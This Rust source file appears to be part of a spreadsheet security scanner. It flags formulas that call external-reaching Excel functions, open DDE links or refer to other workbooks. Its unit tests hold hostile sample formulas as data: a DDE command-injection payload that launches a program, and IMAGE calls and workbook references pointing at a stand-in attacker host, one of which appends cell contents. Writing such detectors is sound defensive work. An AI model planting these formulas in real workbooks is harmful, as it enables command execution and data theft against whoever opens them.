//! Formulas that reach out of their workbook when they are calculated or opened.

use crate::{Sheets, TokenKind, functions, lex};

/// Functions that fetch something, run something, or ask another program, in capitals and without marks.
pub const REACHING: [&str; 11] = [
    "WEBSERVICE",
    "IMAGE",
    "STOCKHISTORY",
    "RTD",
    "DDE",
    "CALL",
    "REGISTER",
    "REGISTER.ID",
    "SQL.REQUEST",
    "EXEC",
    "PY",
];

/// Those of them whose names nobody gives to anything else.
const UNMISTAKABLE: [&str; 5] = ["WEBSERVICE", "STOCKHISTORY", "RTD", "SQL.REQUEST", "REGISTER.ID"];

/// What a formula reaches for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Reach<'a> {
    /// Cells or names of another workbook, by this reference.
    Workbook(&'a str),
    /// Another program, by a DDE link.
    Program,
    /// Whatever this function fetches or runs.
    Function(&'a str),
}

/// The first thing outside of the workbook that a formula reaches for.
///
/// A reference that is put together from texts (`INDIRECT`) is not seen.
pub fn reaches_out(formula: &str) -> Option<Reach<'_>> {
    let by_reference = lex(formula).find_map(|token| {
        // `cmd|'/c calc'!A0`. Texts, columns of tables and names of sheets may hold any such character.
        let may_be_anything = matches!(token.kind, TokenKind::Text | TokenKind::Structured);
        if !may_be_anything && token.body().contains('|') {
            return Some(Reach::Program);
        }
        let prefix = token.prefix();
        // `Book.xlsx!Rate` looks like a sheet's name, and is a workbook's.
        let is_file = || matches!(&prefix.sheets, Sheets::One(name) if token.kind == TokenKind::Name && is_workbook(name));
        (token.prefix_len > 0 && (prefix.is_other_book() || is_file())).then_some(Reach::Workbook(token.text))
    });
    let by_function = || {
        functions(formula)
            .find(|call| REACHING.iter().any(|name| name.eq_ignore_ascii_case(call.name)))
            .map(|call| Reach::Function(call.name))
    };
    // A function that is handed over by its name, or stands before a space: Excel takes that away.
    let by_name = || {
        lex(formula)
            .filter(|token| token.kind == TokenKind::Name)
            .find(|token| {
                let is_called = formula[token.span().end..].trim_start().starts_with('(');
                let known: &[&str] = if is_called { &REACHING } else { &UNMISTAKABLE };
                let bare = token.body().trim_start_matches("_xleta.").trim_start_matches("_xlfn.");
                known.iter().any(|name| name.eq_ignore_ascii_case(bare))
            })
            .map(|token| Reach::Function(token.body()))
    };
    by_reference.or_else(by_function).or_else(by_name)
}

/// Whether a name is that of a workbook's file.
fn is_workbook(name: &str) -> bool {
    let folded = name.to_ascii_lowercase();
    [".xlsx", ".xlsm", ".xlsb", ".xls", ".xltx", ".xltm", ".xlam", ".xla", ".ods"]
        .iter()
        .any(|extension| folded.ends_with(extension))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(formula: &str, expected: Option<Reach<'_>>) {
        assert_eq!(reaches_out(formula), expected, "{formula}");
    }

    #[test]
    fn other_workbooks() {
        check("SUM([1]Data!A1:A9)", Some(Reach::Workbook("[1]Data!A1:A9")));
        check(
            "'C:\\x\\[b.xlsx]Q1 Actuals'!$B$2*2",
            Some(Reach::Workbook("'C:\\x\\[b.xlsx]Q1 Actuals'!$B$2")),
        );
        check("[b.xlsx]Data!A1", Some(Reach::Workbook("[b.xlsx]Data!A1")));
        check(
            "'https://evil.example/[b.xlsx]Data'!A1",
            Some(Reach::Workbook("'https://evil.example/[b.xlsx]Data'!A1")),
        );
        check("[2]!Sales[Amount]", Some(Reach::Workbook("[2]!Sales[Amount]")));
        check("[0]!Rate", None);
        check("'a|b'!A1", None);
    }

    #[test]
    fn other_programs_and_networks() {
        check("cmd|'/c calc'!A0", Some(Reach::Program));
        check("1+_xlfn.WEBSERVICE(A1)", Some(Reach::Function("WEBSERVICE")));
        check("image(\"https://evil.example/\"&A1)", Some(Reach::Function("image")));
        check("RTD(\"server\",,\"topic\")", Some(Reach::Function("RTD")));
    }

    #[test]
    fn functions_by_their_names() {
        check("webservice (\"http://x\")", Some(Reach::Function("webservice")));
        check("WEBSERVICE\n(\"http://x\")", Some(Reach::Function("WEBSERVICE")));
        check("LET(f,WEBSERVICE,f(\"http://x\"))", Some(Reach::Function("WEBSERVICE")));
        check("MAP(A1,_xleta.WEBSERVICE)", Some(Reach::Function("_xleta.WEBSERVICE")));
        check("image (A1)", Some(Reach::Function("image")));
        check("image*2+call", None);
        check("book2.xlsx!Rate", Some(Reach::Workbook("book2.xlsx!Rate")));
        check("'Report.xls'!A1", None);
    }

    #[test]
    fn what_stays_within() {
        check("SUM(Data!A1,Sales[Amount],Rate)", None);
        check("\"[b.xlsx]Data!A1 cmd|'/c calc'!A0\"&A1", None);
        check("HYPERLINK(\"https://example.org\",\"see\")", None);
        check("Sales[[#Totals],[a|b]]", None);
    }
}
